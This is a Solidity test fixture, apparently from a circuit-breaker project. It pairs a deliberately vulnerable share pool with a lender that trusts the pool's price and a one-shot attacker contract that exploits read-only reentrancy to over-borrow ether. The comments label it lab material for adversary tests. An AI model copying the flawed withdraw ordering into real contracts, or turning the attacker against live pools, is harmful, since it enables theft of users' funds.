// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {CircuitBreaker} from "../CircuitBreaker.sol";

/// @title SharePool
/// @notice An ether pool with shares whose `withdraw` burns the shares, pays out, and only then books the assets
/// that left: while the payout's callback runs, `pricePerShare` reads the old assets against the shrunk supply
/// (the read-only reentrancy of Curve-style pools, reduced to its core).
/// Lab contract for the guardian's adversary tests; never deploy it anywhere but a local chain.
contract SharePool {
    mapping(address => uint256) public sharesOf;
    uint256 public totalShares;
    uint256 public totalAssets;

    error SharePoolNotEnoughShares(uint256 held, uint256 asked);
    error SharePoolPayoutFailed(address to, uint256 amount);

    function deposit() external payable {
        uint256 shares = totalShares == 0 ? msg.value : (msg.value * totalShares) / totalAssets;
        sharesOf[msg.sender] += shares;
        totalShares += shares;
        totalAssets += msg.value;
    }

    function withdraw(uint256 shares) external {
        uint256 held = sharesOf[msg.sender];
        if (shares > held) revert SharePoolNotEnoughShares(held, shares);
        uint256 amount = (shares * totalAssets) / totalShares;
        sharesOf[msg.sender] = held - shares;
        totalShares -= shares;
        // The bug under test: ether leaves after the supply shrank, with a callback in between.
        // solhint-disable-next-line avoid-low-level-calls
        (bool ok, ) = msg.sender.call{value: amount}("");
        if (!ok) revert SharePoolPayoutFailed(msg.sender, amount);
        totalAssets -= amount;
    }

    /// @notice Ether per share, 18 decimals.
    function pricePerShare() external view returns (uint256) {
        return totalShares == 0 ? 1e18 : (totalAssets * 1e18) / totalShares;
    }
}

/// @title ShareCreditLender
/// @notice Lends its ether against pool shares held, valued at the pool's `pricePerShare` at the time of the loan
/// (half the value). It trusts the pool's view, which is what a read-only reentrancy exploits.
contract ShareCreditLender is CircuitBreaker {
    SharePool public immutable pool;
    mapping(address => uint256) public debtOf;

    error ShareCreditLenderPayoutFailed(address to, uint256 amount);

    constructor(SharePool pool_, address governance, address[] memory guardians, uint32 tripDuration_)
        CircuitBreaker(governance, guardians, tripDuration_)
    {
        pool = pool_;
    }

    receive() external payable {}

    /// @notice Borrows up to half the value of the caller's shares, less what it already owes; all the lender holds at most.
    function borrow() external returns (uint256 amount) {
        _requireOperationOpen(this.borrow.selector);
        uint256 credit = (pool.sharesOf(msg.sender) * pool.pricePerShare()) / 1e18 / 2;
        amount = credit > debtOf[msg.sender] ? credit - debtOf[msg.sender] : 0;
        if (amount > address(this).balance) amount = address(this).balance;
        debtOf[msg.sender] += amount;
        // solhint-disable-next-line avoid-low-level-calls
        (bool ok, ) = msg.sender.call{value: amount}("");
        if (!ok) revert ShareCreditLenderPayoutFailed(msg.sender, amount);
    }
}

/// @title OneShotReadOnlyAttacker
/// @notice Deposits into the pool, withdraws nine tenths, and borrows from the lender inside the payout's callback
/// while the share price reads inflated. It runs once only (a second run reverts at once), like real exploit contracts.
contract OneShotReadOnlyAttacker {
    SharePool private immutable _pool;
    ShareCreditLender private immutable _lender;
    address private immutable _owner;
    bool private _used;
    bool private _inPayout;

    error OneShotReadOnlyAttackerUsed();
    error OneShotReadOnlyAttackerNoProfit(uint256 balance, uint256 stake);

    constructor(SharePool pool, ShareCreditLender lender) {
        _pool = pool;
        _lender = lender;
        _owner = msg.sender;
    }

    function attack() external payable {
        if (_used || msg.sender != _owner) revert OneShotReadOnlyAttackerUsed();
        _used = true;
        _pool.deposit{value: msg.value}();
        _inPayout = true;
        _pool.withdraw((_pool.sharesOf(address(this)) * 9) / 10);
        _inPayout = false;
        // Nothing borrowed (say, the lender is paused): not worth the gas.
        if (address(this).balance <= (msg.value * 9) / 10) revert OneShotReadOnlyAttackerNoProfit(address(this).balance, msg.value);
        // solhint-disable-next-line avoid-low-level-calls
        (bool ok, ) = _owner.call{value: address(this).balance}("");
        ok;
    }

    receive() external payable {
        if (_inPayout && msg.sender == address(_pool)) {
            _inPayout = false;
            _lender.borrow();
        }
    }
}
